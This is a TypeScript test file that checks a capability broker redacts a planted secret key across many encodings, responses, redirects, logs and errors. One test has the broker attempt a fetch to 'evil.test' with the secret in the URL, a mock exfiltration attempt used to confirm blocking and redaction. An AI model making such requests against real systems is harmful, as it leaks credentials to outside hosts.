import type { IncomingMessage, ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';
import type { AuditEntry, CapabilityBroker, JsonValue } from '@mortise/contracts';
import { describe, expect, it } from 'vitest';
import { redactAudit } from '../audit/redact-audit.ts';
import { createCapabilityBrokers } from './create-capability-brokers.ts';
import { createRedactor } from './secrets/create-redactor.ts';
import { onBench, subjectWith, valueOfReply } from './testing/broker-bench.ts';
import { openCountingServer } from './testing/counting-server.ts';

const SECRET = 'sk_live/9f+8e7d=6c5b&4a';

/** How the value may show up, written down here and not taken from the redactor. */
const SHAPES: readonly string[] = [
  SECRET,
  JSON.stringify(SECRET).slice(1, -1),
  encodeURIComponent(SECRET),
  encodeURIComponent(SECRET).toLowerCase(),
  Buffer.from(SECRET).toString('base64'),
  Buffer.from(SECRET).toString('base64url'),
  // Inside of longer texts, at the two other places of a group: without the shared edges.
  Buffer.from(`x${SECRET}`).toString('base64').slice(2, -4),
  Buffer.from(`xx${SECRET}`).toString('base64').slice(3, -4),
  Buffer.from(SECRET).toString('hex'),
  Buffer.from(SECRET).toString('hex').toUpperCase(),
];

/** Whole encodings, alone and inside of more. */
const PLANTS: readonly string[] = [
  ...['', 'x', 'xx', 'user:'].flatMap((before) =>
    (['utf8', 'base64', 'base64url', 'hex'] as const).map((encoding) =>
      Buffer.from(`${before}${SECRET}${before}`).toString(encoding),
    ),
  ),
  JSON.stringify(SECRET),
  encodeURIComponent(SECRET),
];

/** A server that gives back what it was sent, in the way its path says. */
const ECHOES: ReadonlyMap<string, (key: string, response: ServerResponse) => void> = new Map([
  ['/body', (key, response) => void response.end(`you sent ${key}`)],
  ['/json', (key, response) => void response.end(JSON.stringify({ [key]: [key] }))],
  ['/url', (key, response) => void response.end(encodeURIComponent(key))],
  ['/base64', (key, response) => void response.end(Buffer.from(`xx${key}yy`).toString('base64'))],
  ['/base64-1', (key, response) => void response.end(Buffer.from(`x${key}`).toString('base64'))],
  ['/hex', (key, response) => void response.end(Buffer.from(key).toString('hex').toUpperCase())],
  [
    '/bytes',
    (key, response) =>
      void response.end(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(key)])),
  ],
  [
    '/gzip',
    (key, response) =>
      void response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(`gzip ${key}`)),
  ],
  [
    '/headers',
    (key, response) =>
      void response
        .writeHead(200, `OK ${key}`, { 'x-key': key, 'set-cookie': [`a=${key}`, 'b=1'] })
        .end(),
  ],
  [
    '/redirect',
    (key, response) =>
      void response.writeHead(302, { location: `/body?k=${encodeURIComponent(key)}` }).end(),
  ],
  [
    '/leave',
    (key, response) =>
      void response
        .writeHead(302, { location: `http://not-granted.test/?k=${encodeURIComponent(key)}` })
        .end(),
  ],
  ['/broken', (_key, response) => void response.destroy()],
  ['/huge', (key, response) => void response.end(key.repeat(200_000))],
  [
    '/undecodable',
    (key, response) => void response.writeHead(200, { 'content-encoding': 'gzip' }).end(key),
  ],
]);

function echo(request: IncomingMessage, response: ServerResponse): void {
  const { pathname } = new URL(request.url ?? '/', 'http://x');
  ECHOES.get(pathname)?.(String(request.headers['x-key']), response);
}

async function openWorld() {
  const server = await openCountingServer(echo);
  const entries: AuditEntry[] = [];
  const { redactJson } = createRedactor([SECRET]);
  const audit = redactAudit({ record: (entry) => entries.push(entry) }, () => ({ redactJson }));
  const made = createCapabilityBrokers({
    secrets: { read: async () => SECRET },
    network: { resolver: { resolve: async () => ['127.0.0.1'] } },
  });
  // A host that has every part has every broker.
  const brokers = {
    network: onBench('network', made.network as CapabilityBroker<'network'>, { audit }),
    secrets: onBench('secrets', made.secrets as CapabilityBroker<'secrets'>, { audit }),
    fs_reach: onBench('fs_reach', made.fs_reach as CapabilityBroker<'fs_reach'>, { audit }),
  };
  const origin = `http://echo.test:${server.port}`;
  const network = subjectWith({ allowedHosts: [origin], allowPrivate: ['127.0.0.1'] });
  const secrets = subjectWith([{ name: 'KEY', hosts: [origin] }]);
  const placeholder = valueOfReply(await brokers.secrets.handle('get', ['KEY'], secrets));
  const fetch = (path: string, key: JsonValue = placeholder) =>
    brokers.network.handle(
      'fetch',
      { url: `${origin}${path}`, init: { headers: { 'x-key': key } } },
      network,
    );
  return { server, entries, brokers, fetch, placeholder, redactJson, secrets };
}

describe('a secret planted in every place (S-6, S-7, S-11)', () => {
  it.each([...ECHOES.keys()])('does not come back through %s', async (path) => {
    const { server, fetch, entries, placeholder } = await openWorld();
    await using _server = server;
    const reply = await fetch(path);
    const body = (reply as { value?: { body?: string; bodyEncoding?: string } }).value;
    const bytes = body?.bodyEncoding === 'base64' ? Buffer.from(body.body ?? '', 'base64') : '';
    const visible = JSON.stringify([reply, entries, placeholder, bytes.toString('latin1')]);
    for (const shape of SHAPES) expect(visible).not.toContain(shape);
    // It was really sent, and the server was really asked.
    expect(server.connections()).toBeGreaterThan(0);
  });

  it('is taken out of results, logs and errors, wherever a tool puts it', async () => {
    const { server, redactJson, brokers, entries, secrets } = await openWorld();
    await using _server = server;
    const revealing = { ...secrets, grant: [{ name: 'KEY', reveal: true }] };
    const revealed = valueOfReply(await brokers.secrets.handle('reveal', ['KEY'], revealing));
    expect(revealed).toBe(SECRET);
    const result = redactJson({
      content: [{ type: 'text', text: `the key is ${SECRET}` }],
      structured: { [SECRET]: PLANTS },
      error: { message: `401 for https://a.test/?k=${encodeURIComponent(SECRET)}` },
      logs: PLANTS.map((plant) => `level=info ${plant} end`),
      nested: JSON.stringify({ text: JSON.stringify({ key: SECRET }) }),
    });
    await brokers.fs_reach.handle('read', [`/x/${SECRET}`], subjectWith({ read: ['/tmp'] }));
    await brokers.network.handle(
      'fetch',
      { url: `https://evil.test/${SECRET}` },
      subjectWith({ allowedHosts: [] }),
    );
    const visible = JSON.stringify([result, entries]);
    for (const shape of SHAPES) expect(visible).not.toContain(shape);
    expect(entries.length).toBe(4);
  });
});
